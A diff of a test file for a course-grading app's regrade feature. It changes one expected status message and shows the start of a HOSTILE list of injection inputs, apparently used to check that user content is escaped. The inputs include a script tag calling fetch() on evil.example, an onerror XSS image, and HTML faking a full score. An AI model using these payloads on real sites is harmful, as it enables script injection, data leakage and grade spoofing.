@@ -186,7 +186,7 @@ def test_a_regrade_request(room):
         found, = r.book.rows('select * from regrade')
         assert (found['points_before'], found['points_after'], found['outcome'], found['closed_by']) == (1, 2, 'You are right.', 'ann')
         r.press('ann', 'u'); r.saved('ann')
-        assert 'Taken back; the regrade request is open again.' in r.see('ann', '#status') and [x['outcome'] for x in r.book.rows('select * from regrade')] == ['You are right.', '']
+        assert 'Taken back; the regrade request is open.' in r.see('ann', '#status') and [x['outcome'] for x in r.book.rows('select * from regrade')] == ['You are right.', '']
 
 
 HOSTILE = ['</script><script>document.title = "owned"; fetch("http://evil.example/a")</script>', '<img src=http://evil.example/b.png onerror=alert(1)><style>*{display:none}</style>', '<h1>Score: 4/4</h1><h2>Everything is marked.</h2>',
